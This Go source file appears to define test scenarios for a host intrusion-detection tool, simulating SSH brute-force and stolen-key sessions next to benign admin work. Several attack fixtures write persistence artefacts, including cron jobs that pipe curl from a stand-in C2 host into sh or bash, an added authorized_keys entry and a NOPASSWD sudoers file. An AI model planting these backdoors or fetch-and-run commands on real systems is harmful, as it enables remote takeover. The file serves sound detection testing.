package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

// Scenarios of who did it: attacks carried out inside the attacker's own session (so a session
// alone must not explain them), and admin work in the cases where a shortcut would be wrong
// (typos before a login, a new admin vouched for with nowwhat trust, a server whose auth logs
// rotated away).

// CatSession is the category of the who-did-it scenarios.
const CatSession = "sessions"

const (
	bruteAddr  = "203.0.113.77"
	bruteAddr2 = "203.0.113.91"
	stolenAddr = "198.18.7.44"
	newAdmin   = "192.0.2.200"
)

// sessionOf starts a session of user from an address, with failed logins before it (a burst
// when failures >= 10, typos when fewer), and an SSH key fingerprint ("" for a password).
func sessionOf(e *Env, user, from, keyFP string, ago time.Duration, failures int) (*liveSession, error) {
	acct, err := e.Root.Account(user)
	if err != nil {
		return nil, err
	}
	book := newLogBook(uint64(time.Now().UnixNano()))
	start := e.now().Add(-ago).Truncate(time.Second)
	for i := 0; i < failures; i++ {
		t := start.Add(-time.Duration(failures-i) * 2 * time.Second)
		if failures < 10 {
			t = start.Add(-time.Duration(failures-i) * 20 * time.Second)
		}
		book.auth(t, "sshd", book.nextPID(), fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, from, 30000+i))
	}
	s := &session{User: user, UID: acct.UID, From: from, KeyFP: keyFP, Start: start, LogindID: 300 + failures}
	book.open(s)
	return &liveSession{e: e, book: book, s: s}, nil
}

// trustAdd runs nowwhat trust add in the scenario's case folder and gives both checks the case.
func trustAdd(e *Env, args ...string) error {
	if e.Bin == "" || e.Case == "" {
		return skipf("no nowwhat binary or case folder")
	}
	ctx, cancel := context.WithTimeout(e.ctx(), time.Minute)
	defer cancel()
	out, err := exec.CommandContext(ctx, e.Bin, append([]string{"--case", e.Case, "--quiet", "trust", "add"}, args...)...).CombinedOutput()
	if err != nil {
		if strings.Contains(string(out), "unknown command") {
			return skipf("nowwhat trust is not built")
		}
		return fmt.Errorf("nowwhat trust add: %w: %s", err, strings.TrimSpace(string(out)))
	}
	e.CheckArgs = append(e.CheckArgs, "--case", e.Case)
	return nil
}

func sessionScenarios() []*Scenario {
	return []*Scenario{
		{
			Name: "session-bruteforce-persist", Category: CatSession, Kind: Attack, Techniques: []string{"T1110.001", "T1098.004", "T1053.003", "T1548.003"},
			Description: "60 failed passwords for root from one address, then its root login; in that session a key is added to root's authorized_keys, a root cron job runs a hidden script in /var/tmp and a NOPASSWD sudoers drop-in is written (the intruder's own session must not explain them)",
			Apply: func(e *Env) error {
				r := e.Root
				ls, err := sessionOf(e, "root", bruteAddr, "", 3*time.Minute, 60)
				if err != nil {
					return err
				}
				if err := r.MkdirAll("/root/.ssh", 0o700); err != nil {
					return err
				}
				if err := r.AppendLine("/root/.ssh/authorized_keys", intruderKey+" root@localhost"); err != nil {
					return err
				}
				if err := r.MkdirAll("/var/tmp/.cache", 0o755); err != nil {
					return err
				}
				if err := writeScript(r, "/var/tmp/.cache/apt-check", "curl -s http://"+c2Addr+"/u | sh\n"); err != nil {
					return err
				}
				if err := r.WriteFile("/etc/cron.d/apt-check", []byte("*/5 * * * * root /var/tmp/.cache/apt-check >/dev/null 2>&1\n"), 0o644); err != nil {
					return err
				}
				if err := r.WriteFile("/etc/sudoers.d/90-cloud-init-users", []byte("deploy ALL=(ALL) NOPASSWD:ALL\n"), 0o440); err != nil {
					return err
				}
				return ls.finish()
			},
			Expect: Expect{Verdict: VerdictCompromised, Paths: []string{"/root/.ssh/authorized_keys", "/etc/cron.d/apt-check", "/etc/sudoers.d/90-cloud-init-users"}},
			Changes: []Want{{Path: "/root/.ssh/authorized_keys", Contains: intruderKey}, {Path: "/etc/cron.d/apt-check", Contains: "/var/tmp/.cache/apt-check"},
				{Path: "/var/log/auth.log", Contains: "Accepted password for root from " + bruteAddr}},
		},
		{
			Name: "session-stolen-admin-key", Category: CatSession, Kind: Attack, Techniques: []string{"T1078", "T1552.004", "T1053.003"},
			Description: "alice's own key, stolen, logs in from an address never seen before at an hour she never works, and adds a cron job and a second key to her authorized_keys",
			Apply: func(e *Env) error {
				r := e.Root
				// alice works 09:00-10:15 UTC in the story: the thief's login starts at an hour she
				// never does (near 03:00 UTC when it is her working time now, so the session runs
				// on to the changes made now).
				ago := 3 * time.Minute
				if h := e.now().UTC().Hour(); h >= 7 && h <= 12 {
					ago = time.Duration(h-3) * time.Hour
				}
				acct, err := r.Account("alice")
				if err != nil {
					return err
				}
				keys, err := r.ReadFile(acct.Home + "/.ssh/authorized_keys")
				if err != nil {
					return err
				}
				fp, err := keyFingerprint(keys)
				if err != nil {
					return err
				}
				ls, err := sessionOf(e, "alice", stolenAddr, fp, ago, 0)
				if err != nil {
					return err
				}
				if err := r.AppendLine(acct.Home+"/.ssh/authorized_keys", intruderKey+" alice@backup"); err != nil {
					return err
				}
				if err := r.Chown(acct.Home+"/.ssh/authorized_keys", "alice", "alice"); err != nil {
					return err
				}
				if err := r.WriteFile("/var/spool/cron/crontabs/alice", []byte("@reboot curl -s http://"+c2Addr+"/k | bash\n"), 0o600); err != nil {
					return err
				}
				if err := r.Chown("/var/spool/cron/crontabs/alice", "alice", "crontab"); err != nil {
					return err
				}
				return ls.finish()
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/home/alice/.ssh/authorized_keys", "/var/spool/cron/crontabs/alice"}},
			Changes: []Want{{Path: "/home/alice/.ssh/authorized_keys", Contains: "alice@backup"}, {Path: "/var/log/auth.log", Contains: "from " + stolenAddr}},
		},
		{
			Name: "session-intruder-apt-install", Category: CatSession, Kind: Attack, Techniques: []string{"T1110.001", "T1072", "T1105"},
			Needs:       []string{"real-root", "deb:tree"},
			Description: "after 45 failed passwords, the intruder's root session installs a tool with apt-get (dpkg writes its files: their digests match, only who installed it tells)",
			Apply: func(e *Env) error {
				ls, err := sessionOf(e, "root", bruteAddr2, "", 4*time.Minute, 45)
				if err != nil {
					return err
				}
				start := e.now()
				if _, _, err := dpkgInstall(e, "tree"); err != nil {
					return err
				}
				hist := fmt.Sprintf("\nStart-Date: %s\nCommandline: apt-get install -y tree\nInstall: tree:amd64\nEnd-Date: %s\n",
					start.UTC().Format("2006-01-02  15:04:05"), e.now().UTC().Format("2006-01-02  15:04:05"))
				if err := e.Root.AppendFile("/var/log/apt/history.log", []byte(hist)); err != nil {
					return err
				}
				return ls.finish()
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/usr/bin/tree"}},
			Changes: []Want{{Path: "/usr/bin/tree", Mode: 0o755}, {Path: "/var/log/auth.log", Contains: "Accepted password for root from " + bruteAddr2}},
		},
		{
			Name: "benign-typos-then-work", Category: CatBenign, Kind: Benign, Techniques: []string{"T1110.001"},
			Description: "alice mistypes her password three times from her usual address, logs in with it, and raises nginx's worker_connections with sudoedit",
			Apply: func(e *Env) error {
				ls, err := sessionOf(e, "alice", aliceAddr, "", 4*time.Minute, 3)
				if err != nil {
					return err
				}
				ls.sudo("/home/alice", "sudoedit /etc/nginx/nginx.conf")
				if err := e.Root.Replace("/etc/nginx/nginx.conf", "worker_connections 768;", "worker_connections 1024;"); err != nil {
					return err
				}
				ls.sudo("/home/alice", "/usr/bin/systemctl reload nginx")
				return ls.finish()
			},
			Expect:  Expect{Verdict: VerdictClean},
			Changes: []Want{{Path: "/etc/nginx/nginx.conf", Contains: "worker_connections 1024;"}, {Path: "/var/log/auth.log", Contains: "Failed password for alice from " + aliceAddr}},
		},
		{
			Name: "benign-trusted-new-admin", Category: CatBenign, Kind: Benign, Techniques: []string{"T1078", "T1053.003"},
			Needs:       []string{"note"},
			Description: "a new admin, bob, works from an address no log has seen; the operator vouches for it first (nowwhat trust add --address " + newAdmin + " --who bob); bob logs in as alice's colleague with alice's account, opens a root shell with sudo -i and edits the nginx site and a cron job",
			Apply: func(e *Env) error {
				if err := trustAdd(e, "--address", newAdmin, "--who", "bob (new admin)"); err != nil {
					return err
				}
				ls, err := sessionOf(e, "alice", newAdmin, "", 4*time.Minute, 0)
				if err != nil {
					return err
				}
				ls.sudo("/home/alice", "/usr/bin/sudo -i")
				if err := e.Root.AppendLine("/etc/nginx/sites-available/default", "# bob: gzip for text, see ticket 42"); err != nil {
					return err
				}
				if err := e.Root.WriteFile("/etc/cron.d/certbot-renew", []byte("17 3 * * * root test -x /usr/bin/certbot && certbot -q renew\n"), 0o644); err != nil {
					return err
				}
				return ls.finish()
			},
			Expect:  Expect{Verdict: VerdictClean},
			Changes: []Want{{Path: "/etc/cron.d/certbot-renew", Contains: "certbot -q renew"}, {Path: "/var/log/auth.log", Contains: "from " + newAdmin}},
		},
		{
			Name: "benign-rotated-away-logs", Category: CatBenign, Kind: Benign, Techniques: []string{"T1070.002"},
			Description: "a server that has lived for years: its authentication logs and login records have rotated away (logrotate with maxage: auth.log, wtmp and btmp moved to .1 with their inode, fresh ones created, every older rotation dropped), so no login of its people is left in the current logs; nothing else changed",
			Apply: func(e *Env) error {
				r := e.Root
				ents, err := os.ReadDir(filepath.Join(r.Dir, "var/log"))
				if err != nil {
					return err
				}
				for _, ent := range ents {
					n := ent.Name()
					if strings.HasPrefix(n, "auth.log.") || strings.HasPrefix(n, "wtmp.") || strings.HasPrefix(n, "btmp.") {
						if err := r.Remove("/var/log/" + n); err != nil {
							return err
						}
					}
				}
				// logrotate: the current file becomes .1 (its inode kept), then create makes a new
				// one (a new inode, born now).
				book := newLogBook(uint64(time.Now().UnixNano()))
				book.cron(e.now().Add(-30*time.Second).Truncate(time.Second), "root", 0, "cd / && run-parts --report /etc/cron.hourly")
				for _, p := range []string{"/var/log/auth.log", "/var/log/wtmp", "/var/log/btmp"} {
					if !r.Exists(p) {
						continue
					}
					fi, err := r.Lstat(p)
					if err != nil {
						return err
					}
					if err := r.Rename(p, p+".1"); err != nil {
						return err
					}
					if err := r.WriteFile(p, nil, fi.Mode().Perm()); err != nil {
						return err
					}
				}
				return appendLogs(r, book)
			},
			Expect:  Expect{Verdict: VerdictClean},
			Changes: []Want{{Path: "/var/log/auth.log", Contains: "pam_unix(cron:session): session opened for user root"}},
		},
	}
}
